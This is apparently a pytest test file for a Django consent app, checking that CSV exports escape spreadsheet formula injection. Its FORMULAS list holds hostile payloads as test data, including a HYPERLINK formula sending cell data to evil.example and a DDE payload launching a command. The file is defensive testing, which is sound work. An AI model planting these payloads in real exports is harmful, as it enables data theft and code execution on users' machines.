"""Exports never carry a formula: a cell a spreadsheet would run is neutralised.

A user agent, a ``banner_version`` or a policy version comes from whoever
writes; opened in a spreadsheet, ``=HYPERLINK(...)`` would run. Both CSV
exports (the audit log's and the right-to-know zip's) pass every cell through
one function, :func:`audit.exports.safe_cell`, which puts a ``'`` before a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
"""
import csv
import io
import uuid
import zipfile

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from audit.exports import safe_cell
from consent.models import Visitor
from privacy_requests import export
from privacy_requests.models import DataSubjectRequest
from tests.support import consent_body, write_url

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_each_formula_start(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Mozilla/5.0 (X11)", "1.4.2", "", "a=b", "{\"a\": 1}", "'quoted"])
def test_safe_cell_leaves_other_text_alone(value):
    assert safe_cell(value) == value


def test_safe_cell_leaves_numbers_and_empty_values_alone():
    assert safe_cell(-5) == -5 and safe_cell(None) is None


@pytest.fixture
def hostile_writes(api, demo_site):
    """One visitor per formula, written by the banner with that user agent and banner version."""
    visitors = {}
    for formula in FORMULAS:
        visitor = str(uuid.uuid4())
        body = consent_body(visitor, banner_version=formula[:32])
        response = api.post(write_url(), body, format="json", HTTP_USER_AGENT=formula)
        assert response.status_code == 201, response.content
        visitors[visitor] = formula
    return visitors


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells):
    return [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_audit_csv_carries_no_formula(hostile_writes):
    User.objects.create_superuser("dpo", "dpo@example.com", "pw")
    client = Client()
    client.force_login(User.objects.get(username="dpo"))
    response = client.get(reverse("admin:consent_consentevent_export", args=["csv"]))
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    assert not _no_formula(cells), _no_formula(cells)
    for formula in FORMULAS:
        assert "'" + formula in cells  # the value is kept, only neutralised


def test_the_data_request_csv_carries_no_formula(hostile_writes, demo_site):
    for visitor, formula in hostile_writes.items():
        request = DataSubjectRequest.objects.create(
            site=demo_site, kind="know", email="person@example.org", visitor_uuid=visitor,
            visitor_token_verified=True, status=DataSubjectRequest.Status.FULFILLED,
        )
        assert Visitor.objects.filter(uuid=visitor).exists()
        archive = zipfile.ZipFile(io.BytesIO(export.build_zip(request)))
        cells = _cells(archive.read("events.csv").decode())
        assert not _no_formula(cells), _no_formula(cells)
        assert "'" + formula in cells and "'" + formula[:32] in cells
